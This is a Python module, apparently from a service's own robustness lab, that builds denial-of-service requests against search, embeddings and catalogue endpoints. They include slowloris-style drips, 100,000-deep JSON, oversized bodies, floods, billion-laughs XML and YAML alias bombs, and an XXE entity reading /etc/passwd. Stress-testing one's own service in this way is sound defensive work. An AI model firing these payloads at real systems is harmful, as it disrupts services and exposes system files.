"""What attackers send. Each is a few requests that cost little to send and were meant to cost much to answer."""

from __future__ import annotations

import base64
import json
from collections.abc import Callable, Sequence
from dataclasses import dataclass

from lab.malformed.sender import RequestParts, wire_bytes

ITEMS = "/collections/all/items"
LONGEST_FILTER = 8000
LARGE_BODY_BYTES = 24 << 20
_JSON = [("Content-Type", "application/json")]


@dataclass(frozen=True, slots=True)
class UnfinishedRequest:
    """A request that is never finished: ``opening``, then a byte of ``drip`` each ``every_s``, on many ``sockets``."""

    opening: bytes
    drip: bytes = b""
    every_s: float = 2.0
    sockets: int = 100


@dataclass(frozen=True, slots=True)
class Attack:
    """``wires``: whole requests that ``attackers`` send over and over, each as soon as the one before is answered."""

    name: str
    description: str
    wires: tuple[bytes, ...] = ()
    unfinished: UnfinishedRequest | None = None
    attackers: int = 8


def attacks(key: str) -> tuple[Attack, ...]:
    """The whole course. ``key`` allows writing: bombs in records are sent by somebody who holds it."""
    return (
        Attack("bracket bombs", "filters in brackets that never close, in text and in JSON", _brackets()),
        Attack(
            "half-sent headers",
            "100 requests whose headers never end",
            unfinished=UnfinishedRequest(b"GET /search?q=a HTTP/1.1\r\n", b"X"),
        ),
        Attack(
            "silent connections", "200 connections that say nothing", unfinished=UnfinishedRequest(b"", sockets=200)
        ),
        Attack("slow bodies", "100 bodies of a megabyte, a byte every two seconds", unfinished=_slow_body()),
        Attack("large bodies", "bodies of 24 MB", _large_bodies(), attackers=4),
        Attack("JSON towers", "bodies nested 100,000 deep", _towers()),
        Attack("costly questions", "2,000 characters of places, every facet, the largest pages", _costly()),
        Attack("crafted cursors", "cursors and tokens that somebody wrote by hand", _cursors()),
        Attack("a flood", "searches as fast as they are answered, 32 at a time", _flood(), attackers=32),
        Attack(
            "bombs in records", "XML entities, YAML aliases and deep RDF, put with a key", _records(key), attackers=4
        ),
    )


def _get(path: str, *query: tuple[str, str]) -> bytes:
    return wire_bytes(RequestParts("GET", path, list(query)))


def _post(path: str, body: bytes) -> bytes:
    return wire_bytes(RequestParts("POST", path, headers=_JSON, body=body))


def _brackets() -> tuple[bytes, ...]:
    texts = [
        "(" * 22 + "title='a'",
        "(" * 32 + "title='a' x" + ")" * 32,
        "(" * 30 + ")" * 30,
        "(" * (LONGEST_FILTER // 2),
        "NOT (" * 16 + "title==",
        "CASEI(" * 30 + "title",
        "resolution BETWEEN (" * 15 + "1",
        "S_INTERSECTS(geometry," + "GEOMETRYCOLLECTION(" * 30,
        "a_contains((" * 15,
        "type IN (" * 25,
        "-" * 4000 + "1",
        "title LIKE '" + "%a" * 250 + "' OR " + "title LIKE '%_%_%_%_b' OR " * 200 + "true",
        "type='a' OR " * 600 + "type='b'",
    ]
    queries = [(path, text) for text in texts for path in (ITEMS, "/search")]
    bombs = [_get(path, ("filter", text[:LONGEST_FILTER])) for path, text in queries]
    tower = '{"op":"not","args":[' * 300 + "true" + "]}" * 300
    wide = json.dumps({"op": "or", "args": [{"op": "=", "args": [{"property": "type"}, "a"]}] * 150})
    filters = '{"type":"GeometryCollection","geometries":[' * 300 + "]}" * 300
    return (
        *bombs,
        *(_get(ITEMS, ("filter-lang", "cql2-json"), ("filter", expression)) for expression in (tower, wide)),
        _get("/stac/search", ("intersects", filters)),
        _post("/stac/search", b'{"intersects":' + filters.encode() + b"}"),
    )


def _slow_body() -> UnfinishedRequest:
    head = "POST /embeddings HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n\r\n"
    return UnfinishedRequest(head.encode() + b'{"texts":["', b"a")


def _large_bodies() -> tuple[bytes, ...]:
    many_words = b'{"texts":["' + b"rain " * (LARGE_BODY_BYTES // 5) + b'"]}'
    many_texts = b'{"texts":[' + b'"rain",' * (LARGE_BODY_BYTES // 7) + b'"rain"]}'
    return (_post("/embeddings", many_words), _post("/embeddings", many_texts), _post("/stac/search", many_texts))


def _towers() -> tuple[bytes, ...]:
    depth = 100_000
    arrays = b"[" * depth + b"]" * depth
    objects = b'{"a":' * depth + b"1" + b"}" * depth
    return tuple(_post(path, body) for path in ("/embeddings", "/stac/search", "/ask") for body in (arrays, objects))


def _costly() -> tuple[bytes, ...]:
    towns = ("Berlin Paris London ", "New York ", "AD 1 ", "July 2001 to June 2004 in Ghana ", "10 km 20 m 1:50000 ")
    long = [(town * 2000)[:2000] for town in towns]
    options = (("facets", "all"), ("limit", "100"), ("explain", "true"), ("highlight", "true"))
    return (
        *(_get("/search", ("q", text), *options) for text in long),
        *(_get("/search", ("q", "rain " * number), ("rerank", "true"), ("limit", "100")) for number in (1, 50, 300)),
        _get("/dcat", ("limit", "500")),
        _get(ITEMS, ("limit", "1000")),
        _get(ITEMS, ("q", ",".join(f"word{number}" for number in range(200)))),
        _get("/sitemap.xml"),
        _post("/embeddings", json.dumps({"texts": ["rain in the mountains " * 40] * 32}).encode()),
    )


def _cursors() -> tuple[bytes, ...]:
    contents = (b'{"o":Infinity,"q":"a"}', b'["a",null]', b'["a",1e999]', b'[{"a":1}]', b'{"seen":1e999}', b"[" * 500)
    cursors = [base64.urlsafe_b64encode(cursor).decode().rstrip("=") for cursor in contents] + ["%00", "A" * 1999, "ÿ"]
    parameters: Sequence[Callable[[str], bytes]] = (
        lambda cursor: _get("/search", ("q", "rain"), ("cursor", cursor)),
        lambda cursor: _get(ITEMS, ("sortby", "updated"), ("cursor", cursor)),
        lambda cursor: _get("/stac/search", ("token", cursor)),
        lambda cursor: _get("/dcat", ("cursor", cursor)),
        lambda cursor: _get("/sitemap.xml", ("after", cursor)),
        lambda cursor: _get("/oai", ("verb", "ListRecords"), ("resumptionToken", cursor)),
    )
    return tuple(write(cursor) for cursor in cursors for write in parameters)


def _flood() -> tuple[bytes, ...]:
    return tuple(_get("/search", ("q", f"rainfall {number}"), ("limit", "10")) for number in range(500))


def _records(key: str) -> tuple[bytes, ...]:
    laughs = "".join(f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, 10))
    entities = f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY l0 "ha">{laughs}]><a>&l9;</a>'
    outside = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    aliases = "a0: &a0 [x]\n" + "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 10))
    deep = "<a>" * 50_000 + "</a>" * 50_000
    blank = "@prefix a: <http://a/> . a:a a:b " + "[ a:b " * 5_000 + "1" + " ]" * 5_000 + " ."
    context = json.dumps({"@context": "http://127.0.0.1:1/context", "@id": "http://a/a"})
    documents = (
        ("application/xml", entities),
        ("application/xml", outside),
        ("application/xml", deep),
        ("application/vnd.iso.19139+xml", entities),
        ("application/rdf+xml", entities),
        ("application/yaml", aliases),
        ("text/turtle", blank),
        ("application/ld+json", context),
        ("application/geo+json", "[" * 100_000),
    )
    return tuple(
        wire_bytes(
            RequestParts(
                "PUT",
                "/collections/fuzz/items/bomb",
                headers=[("Content-Type", media_type), ("Authorization", f"Bearer {key}")],
                body=text.encode(),
            )
        )
        for media_type, text in documents
    )
